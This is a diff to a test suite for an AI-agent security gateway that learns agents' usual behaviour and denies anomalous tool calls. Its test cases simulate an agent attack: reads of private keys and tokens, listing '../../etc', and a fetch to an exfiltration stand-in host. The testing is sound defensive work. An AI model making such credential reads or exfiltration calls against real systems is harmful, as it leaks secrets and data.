@@ -1,5 +1,15 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { call, decisionOf, type Harness, HOUR, LIVE_DAY, startHarness, textOf } from './helpers.js';
+import {
+  call,
+  decisionOf,
+  deniedText,
+  type Harness,
+  HOUR,
+  LIVE_DAY,
+  startHarness,
+  textOf,
+  withReasonsInMeta,
+} from './helpers.js';
 
 const MONDAY_MORNING = LIVE_DAY + 10 * HOUR + 30 * 60_000; // 10:30 UTC, research-bot works 08-18 weekdays
 const TUESDAY_NIGHT = LIVE_DAY + 24 * HOUR + 3 * HOUR + 10 * 60_000; // 03:10 UTC
@@ -7,7 +17,7 @@ const TUESDAY_NIGHT = LIVE_DAY + 24 * HOUR + 3 * HOUR + 10 * 60_000; // 03:10 UT
 describe('the gateway in enforce mode', () => {
   let h: Harness;
   beforeAll(async () => {
-    h = await startHarness();
+    h = await startHarness(withReasonsInMeta);
   });
   afterAll(() => h.close());
 
@@ -42,31 +52,46 @@ describe('the gateway in enforce mode', () => {
     expect(allowed.every((l) => l.decision === 'allow' && typeof l.detectionMicros === 'number')).toBe(true);
   });
 
-  it('denies an off-hours attack (reads of unusual paths, a fetch to a new host) with the explanation', async () => {
+  it('denies an off-hours attack (reads of unusual paths, a fetch to a new host), the explanation in _meta and the log', async () => {
     h.setTime(TUESDAY_NIGHT);
     const client = await h.connect('research-bot');
     const before = h.gateway.threats.learner.computeBaseline('research-bot')!.eventCount;
-    const attempts: Array<[string, Record<string, unknown>, RegExp]> = [
-      ['read_file', { path: 'secrets/id_rsa' }, /file location secrets never accessed/],
-      ['list_dir', { path: '../../etc' }, /file location \.\.\/\.\.\/etc never accessed/],
+    // The first threat opens an incident: a new destination during it is a risk of its own.
+    const attempts: Array<[string, Record<string, unknown>, RegExp, string]> = [
+      ['read_file', { path: 'secrets/id_rsa' }, /file location secrets never accessed/, 'threat'],
+      ['list_dir', { path: '../../etc' }, /file location \.\.\/\.\.\/etc never accessed/, 'threat'],
       [
         'web_fetch',
         { url: 'https://exfil.example.net/upload' },
         /destination exfil\.example\.net never contacted/,
+        'new-destination-during-incident',
       ],
     ];
-    for (const [name, args, why] of attempts) {
+    for (const [name, args, why, reason] of attempts) {
       const result = await call(client, name, args);
       expect(result.isError).toBe(true);
-      expect(textOf(result)).toMatch(/^Denied by the harombe gateway/);
-      expect(textOf(result)).toMatch(why);
+      // The agent reads the generic text; the reasons are in _meta (configured here) and the log.
+      expect(textOf(result)).toBe(deniedText(name));
       const decision = decisionOf(result);
-      expect(decision.decision).toBe('deny');
+      expect(decision).toMatchObject({ decision: 'deny', appliesTo: 'call', reasons: [reason] });
+      expect(decision.explanation).toMatch(why);
       expect(['high', 'critical']).toContain(decision.threatLevel);
     }
     const denied = h.logs.filter((l) => l.msg === 'call denied');
     expect(denied.length).toBe(3);
     expect(denied.every((l) => l.level === 40 && typeof l.explanation === 'string')).toBe(true);
+    // Each line carries the call's context: event id, tool, path or destination, session, tail.
+    for (const line of denied) {
+      expect(line).toMatchObject({ agentId: 'research-bot', sessionId: expect.any(String) });
+      expect(line.eventId).toMatch(/^[0-9a-f-]{36}$/);
+      expect(line.tailProbability).toEqual(expect.any(Number));
+      expect(line.path ?? line.destination).toEqual(expect.any(String));
+    }
+    expect(denied.map((l) => l.path ?? l.destination)).toEqual([
+      'secrets/id_rsa',
+      '../../etc/',
+      'exfil.example.net',
+    ]);
     // Denied calls never reach the upstream, so nothing about them is learned.
     expect(h.gateway.threats.learner.computeBaseline('research-bot')!.eventCount).toBe(before);
   });
@@ -75,16 +100,16 @@ describe('the gateway in enforce mode', () => {
     h.setTime(TUESDAY_NIGHT);
     const client = await h.connect('research-bot');
     const result = await call(client, 'read_file', { path: 'papers/file-3.txt' });
-    expect(textOf(result)).toMatch(/^Denied by the harombe gateway/);
-    expect(textOf(result)).toMatch(/time of activity|hour/);
+    expect(textOf(result)).toBe(deniedText('read_file'));
+    expect(decisionOf(result).explanation).toMatch(/time of activity|hour/);
   });
 
   it('scores an agent without history against the fleet model and says so', async () => {
     h.setTime(MONDAY_MORNING);
     const client = await h.connect('intern-bot');
     const result = await call(client, 'read_file', { path: 'secrets/token' });
-    expect(textOf(result)).toMatch(/^Denied by the harombe gateway/);
-    expect(textOf(result)).toContain('fleet model');
+    expect(textOf(result)).toBe(deniedText('read_file'));
+    expect(decisionOf(result).explanation).toContain('fleet model');
     expect(decisionOf(result).coldStart).toBe(true);
   });
 
@@ -153,7 +178,13 @@ describe('the gateway in enforce mode', () => {
 
   it('serves /healthz and Prometheus /metrics with latency, decisions and denials', async () => {
     const health = (await (await fetch(new URL('/healthz', h.url))).json()) as Record<string, unknown>;
-    expect(health).toMatchObject({ status: 'ok', mode: 'enforce', tools: 4, agentsWithModel: 2 });
+    expect(health).toMatchObject({
+      status: 'ok',
+      mode: 'enforce',
+      tools: 4,
+      agentsWithModel: 2,
+      upstreams: [{ name: 'example-tools', state: 'up' }],
+    });
     const metrics = await (await fetch(new URL('/metrics', h.url))).text();
     expect(metrics).toMatch(/harombe_gateway_detection_seconds_count \d+/);
     expect(metrics).toMatch(/harombe_gateway_decisions_total\{level="none",decision="allow"\} \d+/);
@@ -167,7 +198,7 @@ describe('the gateway in enforce mode', () => {
 describe('the gateway in shadow mode', () => {
   let h: Harness;
   beforeAll(async () => {
-    h = await startHarness((c) => ({ ...c, detection: { ...c.detection, mode: 'shadow' } }));
+    h = await startHarness((c) => withReasonsInMeta({ ...c, detection: { ...c.detection, mode: 'shadow' } }));
   });
   afterAll(() => h.close());
 
@@ -181,11 +212,11 @@ describe('the gateway in shadow mode', () => {
     expect(textOf(result)).toContain('docs page /never-seen-at-night');
     expect(textOf(read)).toBe('no such file or directory');
     const decision = decisionOf(read);
-    expect(decision).toMatchObject({ decision: 'allow' });
+    expect(decision).toMatchObject({ decision: 'allow', response: 'deny' });
     expect(['high', 'critical']).toContain(decision.threatLevel);
     const shadowed = h.logs.filter((l) => l.msg === 'threat let through (shadow mode)');
     expect(shadowed.length).toBeGreaterThanOrEqual(1);
-    expect(shadowed[0]).toMatchObject({ decision: 'allow', wouldDeny: true, mode: 'shadow' });
+    expect(shadowed[0]).toMatchObject({ decision: 'allow', response: 'deny', mode: 'shadow' });
     expect(h.gateway.threats.learner.computeBaseline('research-bot')!.eventCount).toBe(before);
   });
 });
